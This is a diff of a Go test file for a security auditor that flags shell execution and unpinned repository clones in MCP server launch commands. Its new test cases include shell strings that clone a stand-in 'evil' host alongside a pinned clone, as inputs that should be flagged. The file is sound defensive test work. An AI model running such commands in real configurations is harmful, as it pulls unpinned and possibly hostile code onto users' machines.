@@ -1618,16 +1618,19 @@ func TestAuditDownloadsOverPlainHTTP(t *testing.T) {
 	})
 }
 
+// The findings of a one-line script (mcp.args[1]) that clones a
+// repository, and a full commit, for the clone tests.
+const (
+	sha      = "0123456789abcdef0123456789abcdef01234567"
+	unpinned = "warn unpinned mcp.args[1]"
+	script   = "danger shell_exec mcp.args[1]"
+	meta     = "warn shell_meta mcp.args[1]"
+)
+
 // TestAuditGitClone holds a git clone of a repository to unpinned unless
 // it names a full commit (--revision) or the wiring checks one out after
 // it: what a branch's head holds can change at any time.
 func TestAuditGitClone(t *testing.T) {
-	const sha = "0123456789abcdef0123456789abcdef01234567"
-	const (
-		unpinned = "warn unpinned mcp.args[1]"
-		script   = "danger shell_exec mcp.args[1]"
-		meta     = "warn shell_meta mcp.args[1]"
-	)
 	runCases(t, []auditCase{
 		{"a branch's head", stdio("git", "clone", "https://github.com/o/r"), []string{"warn unpinned mcp.args[1]"}, true, false},
 		{"with options", stdio("git", "clone", "--depth", "1", "-b", "main", "https://github.com/o/r", "d"), []string{"warn unpinned mcp.args[5]"}, true, false},
@@ -1885,5 +1888,32 @@ func TestAuditMoreNetworkClients(t *testing.T) {
 		{"cloud storage", stdio("aws", "s3", "cp", "s3://b/srv", "/tmp/srv"), []string{}, true, false},
 		// Look-alikes: openssl decoding, which uses no network.
 		{"openssl base64 -d", stdio("sh", "-c", "openssl base64 -d -in f > g"), []string{script, meta}, false, true},
+	})
+}
+
+// TestAuditCheckoutPinsItsOwnClone holds a checkout of a fixed commit to
+// pinning the clone in the directory it is made in, and no other: a
+// second, pinned clone must not hide the first one's latest code.
+func TestAuditCheckoutPinsItsOwnClone(t *testing.T) {
+	runCases(t, []auditCase{
+		{"a second clone checked out", stdio("sh", "-c", "git clone https://e.example/evil a; git clone https://x.example/r b && git -C b checkout "+sha), []string{
+			script, meta, unpinned}, true, true},
+		{"checked out elsewhere", stdio("sh", "-c", "git clone https://x.example/r; cd /srv/other; git checkout "+sha), []string{
+			script, meta, unpinned}, true, true},
+		{"hg, another repository", stdio("sh", "-c", "hg clone https://e.example/evil a; hg clone https://x.example/r b; hg -R b update "+sha), []string{
+			script, meta, unpinned}, true, true},
+		{"svn, another working copy", stdio("sh", "-c", "svn co https://e.example/evil a; svn co https://x.example/r b; svn up -r 5 b"), []string{
+			script, meta, unpinned}, true, true},
+		{"a directory not known", stdio("sh", "-c", "git clone https://x.example/r \"$D\"; cd \"$D\"; git checkout "+sha), []string{
+			script, meta, unpinned}, true, true},
+		// Look-alikes: the clone's own directory, by its name, by cd, by
+		// a path from the directory the script moved to.
+		{"cd into the clone's name", stdio("sh", "-c", "git clone https://x.example/r.git && cd r && git checkout "+sha), []string{
+			script, meta}, true, true},
+		{"cd, then a relative path", stdio("sh", "-c", "cd /opt && git clone https://x.example/r app && git -C /opt/app reset --hard "+sha), []string{
+			script, meta}, true, true},
+		{"--git-dir", stdio("sh", "-c", "git clone https://x.example/r /srv/r; git --git-dir=/srv/r/.git --work-tree=/srv/r checkout "+sha), []string{
+			script, meta}, true, true},
+		{"gh into a directory", stdio("sh", "-c", "gh repo clone o/r d && cd d && git switch --detach "+sha), []string{script, meta}, true, true},
 	})
 }
